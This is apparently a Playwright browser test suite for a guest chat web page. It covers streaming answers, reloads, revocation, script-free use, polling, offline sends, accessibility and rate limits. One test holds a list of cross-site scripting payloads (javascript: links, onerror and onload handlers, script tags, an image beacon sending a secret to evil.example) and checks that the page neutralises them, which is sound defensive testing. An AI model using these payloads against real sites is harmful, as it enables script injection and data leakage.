"""The pages in a real browser, on a phone and on a desktop."""

import asyncio
import re
from collections.abc import AsyncIterator, Callable, Coroutine
from typing import Any

import pytest
from playwright.async_api import Browser, BrowserContext, Page, Route, ViewportSize, expect

from bot import limits
from playground.gemini import Break, Failure, Reply, text
from storage.rates import Limit
from tests.web.sidecar import OWNER, House

pytestmark = pytest.mark.browser

PHONE = {"viewport": ViewportSize(width=390, height=844), "is_mobile": True, "has_touch": True}
DESKTOP = {"viewport": ViewportSize(width=1280, height=800)}
Opening = Callable[[str], Coroutine[Any, Any, Page]]


@pytest.fixture(params=[PHONE, DESKTOP], ids=["phone", "desktop"])
async def context(browser: Browser, request: pytest.FixtureRequest) -> AsyncIterator[BrowserContext]:
    context = await browser.new_context(**request.param)
    yield context
    await context.close()


@pytest.fixture
async def opened(context: BrowserContext) -> Opening:
    """Opens a link, presses Start and waits until the chat is live."""

    async def opened(url: str) -> Page:
        page = await context.new_page()
        await page.goto(url)
        await page.get_by_label("Your name").fill("Robin")
        await page.get_by_role("checkbox").check()
        await page.get_by_role("button", name="Start the chat").click()
        await expect(page.locator("body[data-connection=live]")).to_be_visible()
        return page

    return opened


async def said(page: Page, words: str) -> None:
    await page.get_by_label("Message", exact=True).fill(words)
    await page.get_by_role("button", name="Send").click()


async def test_a_guest_starts_asks_and_reads_the_answer_as_it_comes(house: House, opened: Opening) -> None:
    house.model.script(Reply([[text("One **two** ")], [text("three ")], Break.HOLD]))
    page = await opened((await house.link()).url)
    await said(page, "Count, please.")
    await expect(page.locator(".agent strong")).to_have_text("two")
    await expect(page.locator("#status")).to_contain_text("Writing an answer")
    await page.get_by_role("button", name="Stop the answer").click()
    await expect(page.locator("#status")).to_have_text(re.compile("Stopped"))
    assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")


async def test_a_reload_resumes_and_a_second_guest_sees_the_dead_page(
    house: House, opened: Opening, browser: Browser
) -> None:
    house.model.will_say("Hello, Robin.")
    created = await house.link()
    page = await opened(created.url)
    await said(page, "Hi.")
    await expect(page.locator(".agent .words")).to_have_text("Hello, Robin.")
    await page.goto(created.url)
    await expect(page.locator(".guest .words")).to_have_text("Hi.")
    await expect(page.locator(".agent .words")).to_have_text("Hello, Robin.")
    other = await (await browser.new_context()).new_page()
    await other.goto(created.url)
    await expect(other.get_by_role("heading")).to_have_text("This chat is not available")


async def test_a_reload_in_the_middle_of_an_answer_goes_on_with_it(house: House, opened: Opening) -> None:
    house.model.script(Reply([[text("It begins ")], [text("here ")], Break.HOLD]))
    page = await opened((await house.link()).url)
    await said(page, "Go.")
    await expect(page.locator(".agent .words")).to_have_text(re.compile("It begins here"))
    await page.reload()
    await expect(page.locator(".agent .words")).to_have_text(re.compile("It begins here"))
    await expect(page.get_by_role("button", name="Stop the answer")).to_be_visible()


async def test_revoking_ends_the_open_page_within_a_second(house: House, opened: Opening) -> None:
    created = await house.link()
    page = await opened(created.url)
    await house.links.revoke(OWNER, created.link.id)
    await expect(page.get_by_role("heading", name="This chat has ended")).to_be_visible(timeout=1000)
    await expect(page.locator(".card")).to_contain_text("has ended the chat")
    await page.reload()
    await expect(page.locator(".card")).to_contain_text("has ended the chat")


async def test_the_guest_ends_the_chat_and_nothing_of_it_stays(house: House, opened: Opening) -> None:
    created = await house.link()
    page = await opened(created.url)
    await page.get_by_label("Message", exact=True).fill("a draft")
    await page.get_by_label("More").click()
    await page.get_by_role("button", name="End the chat").click()
    await page.get_by_role("dialog").get_by_role("button", name="End the chat").click()
    await expect(page.locator(".card")).to_contain_text("You ended this chat.")
    assert await page.evaluate("sessionStorage.length") == 0
    assert await page.context.cookies() == []
    await page.goto(created.url)
    await expect(page.get_by_role("heading")).to_have_text("This chat is not available")


HOSTILE = """[x](javascript:alert(1)) ![x](https://evil.example/p.png?q=secret) <img src=x onerror=alert(1)>
<script>alert(1)</script> <svg onload=alert(1)> [ok](https://bank.example@evil.example/) [site](https://evil.example/a)

```modal overlay" onclick="alert(1)
code
```

| a | <b>b</b> |
|---|---|
| c | ![d](https://evil.example/e) |

"""


async def test_hostile_text_makes_no_request_runs_nothing_and_leads_nowhere_unasked(
    house: House, opened: Opening
) -> None:
    page = await opened((await house.link()).url)
    heard: list[str] = []
    page.on("request", lambda asked: heard.append(asked.url))
    page.on("dialog", lambda dialog: heard.append(dialog.message))
    page.on("console", lambda told: heard.append(told.text))
    house.model.will_say(*[HOSTILE[at : at + 3] for at in range(0, len(HOSTILE), 3)], ">" * 50_000)
    await said(page, "Attack me.")
    await expect(page.locator("#status")).to_be_hidden()
    await page.reload()  # the same text, rendered by the server
    assert await page.locator(".words :is(img, script, svg, iframe, style)").count() == 0
    assert [told for told in heard if not told.startswith(house.url)] == []
    links = page.locator(".words a")
    assert [await link.get_attribute("href") for link in await links.all()] == ["https://evil.example/a"]
    await links.first.click()
    await expect(page.get_by_role("dialog")).to_contain_text("evil.example")
    await page.get_by_role("button", name="Stay here").click()
    assert len(page.context.pages) == 1


async def test_without_scripts_the_whole_chat_works_by_forms(house: House, browser: Browser) -> None:
    house.model.will_say("Hello **there**.")
    created = await house.link()
    page = await (await browser.new_context(java_script_enabled=False, **PHONE)).new_page()
    await page.goto(created.url)
    await page.get_by_role("checkbox").check()
    await page.get_by_role("button", name="Start the chat").click()
    await said(page, "Hi.")
    await expect(page.locator(".guest .words")).to_have_text("Hi.")
    async with asyncio.timeout(10):
        while not await page.locator(".agent").count():
            await page.get_by_role("link", name="Refresh").click()
    await expect(page.locator(".agent strong")).to_have_text("there")
    await page.get_by_label("More").click()
    await page.get_by_role("button", name="End the chat").click()
    await expect(page.locator(".card")).to_contain_text("You ended this chat.")


async def test_a_browser_that_only_looks_uses_nothing_up(house: House, context: BrowserContext) -> None:
    created = await house.link()
    page = await context.new_page()
    await page.goto(created.url, wait_until="networkidle")
    await page.close()
    async with house.db.read() as tables:
        link = await tables.links.get(OWNER.workspace, created.link.id)
    assert link
    assert link.used_sessions == 0
    assert await context.cookies() == []


async def test_where_streams_are_refused_the_page_polls(house: House, opened: Opening, context: BrowserContext) -> None:
    async def refused(route: Route) -> None:
        await route.fulfill(status=429)

    page = await opened((await house.link()).url)
    await context.route("**/events*", refused)
    await page.reload()
    await expect(page.locator("body[data-connection=polling]")).to_be_visible(timeout=15_000)
    house.model.will_say("Hello by poll.")
    await said(page, "Hi.")
    await expect(page.locator(".agent .words")).to_have_text("Hello by poll.")
    assert await page.locator(".guest").count() == 1


async def test_a_message_that_cannot_be_sent_is_kept(house: House, opened: Opening, context: BrowserContext) -> None:
    page = await opened((await house.link()).url)
    await context.set_offline(True)
    await said(page, "Are you there?")
    await expect(page.get_by_label("Message", exact=True)).to_have_value("Are you there?")
    await expect(page.get_by_role("alert")).to_contain_text("offline")
    house.model.will_say("Yes.")
    await context.set_offline(False)
    await page.get_by_role("button", name="Send").click()
    await expect(page.locator(".agent .words")).to_have_text("Yes.")
    assert await page.locator(".guest").count() == 1


async def test_two_tabs_show_the_same(house: House, opened: Opening, context: BrowserContext) -> None:
    house.model.will_say("Both of you.")
    first = await opened((await house.link()).url)
    second = await context.new_page()
    await second.goto(first.url)
    await expect(second.locator("body[data-connection=live]")).to_be_visible()
    await said(first, "Who is there?")
    for page in (first, second):
        await expect(page.locator(".guest .words")).to_have_text("Who is there?")
        await expect(page.locator(".agent .words")).to_have_text("Both of you.")


async def test_enter_sends_where_there_is_a_keyboard_and_escape_stops(house: House, browser: Browser) -> None:
    house.model.script(Reply([[text("Long ")], Break.HOLD]))
    page = await (await browser.new_context(**DESKTOP)).new_page()
    await page.goto((await house.link()).url)
    await page.get_by_role("checkbox").check()
    await page.keyboard.press("Tab")
    await page.keyboard.press("Enter")
    await expect(page.locator("body[data-connection=live]")).to_be_visible()
    await expect(page.get_by_label("Message", exact=True)).to_be_focused()
    await page.keyboard.type("one")
    await page.keyboard.press("Shift+Enter")
    await page.keyboard.type("two")
    await page.keyboard.press("Enter")
    await expect(page.locator(".guest .words")).to_have_text("one\ntwo")
    await expect(page.locator(".agent .words")).to_have_text(re.compile("Long"))
    await page.keyboard.press("Escape")
    await expect(page.locator("#status")).to_have_text(re.compile("Stopped"))


async def test_a_turn_is_spoken_twice_at_most(house: House, opened: Opening) -> None:
    page = await opened((await house.link()).url)
    await page.evaluate(
        "window.spoken = []; new MutationObserver(() => spoken.push(document.getElementById('spoken').textContent))"
        ".observe(document.getElementById('spoken'), {childList: true, characterData: true, subtree: true})"
    )
    house.model.will_say(*[f"word{number} " for number in range(40)])
    await said(page, "Talk.")
    await expect(page.locator("#status")).to_be_hidden()
    spoken = await page.evaluate("spoken")
    assert spoken[0] == "Usher is replying."
    assert spoken[-1].startswith("Usher: word0")
    assert len(spoken) == 2
    assert await page.locator("#log").get_attribute("aria-live") == "off"


async def test_a_failed_answer_says_so_and_can_be_tried_again(
    house: House, opened: Opening, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "APART", Limit(burst=9, every_microseconds=limits.SECOND))
    page = await opened((await house.link()).url)
    house.model.script(Failure(400, "INVALID_ARGUMENT"))
    await said(page, "Hi.")
    house.model.will_say("Here I am.")
    await page.get_by_role("button", name="Try again").click()
    await expect(page.locator(".agent .words")).to_have_text("Here I am.")
    await expect(page.get_by_role("button", name="Try again")).to_be_hidden()


async def test_a_limit_is_told_with_the_time_until_it_lifts_and_the_message_is_kept(
    house: House, opened: Opening, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "APART", Limit(burst=1, every_microseconds=20 * limits.SECOND))
    page = await opened((await house.link()).url)
    house.model.will_say("One.")
    await said(page, "First.")
    await expect(page.locator(".agent")).to_be_visible()
    await expect(page.locator("#status")).to_be_hidden()
    await said(page, "Second, at once.")
    await expect(page.locator("#status[data-state=limited]")).to_contain_text("one message a second")
    await expect(page.get_by_label("Message", exact=True)).to_have_value("Second, at once.")
    await expect(page.locator("#status")).to_contain_text(re.compile(r"\(1\d s\)"))
